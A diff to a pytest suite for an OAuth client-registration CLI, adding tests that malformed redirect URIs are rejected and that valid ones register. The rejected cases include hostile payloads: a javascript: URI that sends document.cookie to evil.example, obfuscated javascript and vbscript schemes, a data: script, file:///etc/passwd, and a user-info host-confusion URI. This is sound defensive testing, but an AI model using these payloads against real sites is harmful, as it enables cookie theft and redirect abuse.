@@ -71,14 +71,40 @@ def test_public_client_has_no_secret(run_cli: Callable[..., Any]) -> None:
         pytest.param("http://app.example/cb", id="http-not-loopback"),
         pytest.param("https://app.example/cb#x", id="fragment"),
         pytest.param("/relative", id="relative"),
+        pytest.param("javascript:fetch('//evil.example/'+document.cookie)//", id="javascript"),
+        pytest.param("JavaScript:alert(1)//", id="javascript-capitals"),
+        pytest.param("java\tscript:alert(1)//", id="javascript-with-a-tab"),
+        pytest.param(" javascript:alert(1)//", id="javascript-after-a-space"),
+        pytest.param("vbscript:msgbox(1)", id="vbscript"),
+        pytest.param("data:text/html,<script>alert(1)</script>", id="data"),
+        pytest.param("file:///etc/passwd", id="file"),
+        pytest.param("ftp://files.example/cb", id="ftp"),
+        pytest.param("https://app.example@evil.example/cb", id="user-name"),
     ],
 )
 def test_bad_redirect_uris_are_refused(run_cli: Callable[..., Any], uri: str) -> None:
     """One line on stderr, exit 1, nothing registered."""
     result = run_cli("client", "create", "X", "--redirect-uri", uri)
     assert result.exit_code == 1
+    assert len(result.stderr.splitlines()) == 1
     assert "Traceback" not in result.output
     assert listed(run_cli) == []
+
+
+@pytest.mark.parametrize(
+    "uri",
+    [
+        "https://app.example/cb?tenant=1",
+        "http://[::1]:8080/cb",
+        "com.example.app:/oauth2redirect",
+        "myapp://callback",
+    ],
+)
+def test_good_redirect_uris_are_registered(run_cli: Callable[..., Any], uri: str) -> None:
+    """https, loopback http and native apps' private-use schemes (RFC 8252 §7)."""
+    result = run_cli("client", "create", "X", "--redirect-uri", uri, "--public")
+    assert result.exit_code == 0, result.output
+    assert listed(run_cli)[0]["redirect_uris"] == [uri]
 
 
 def test_delete(run_cli: Callable[..., Any]) -> None:
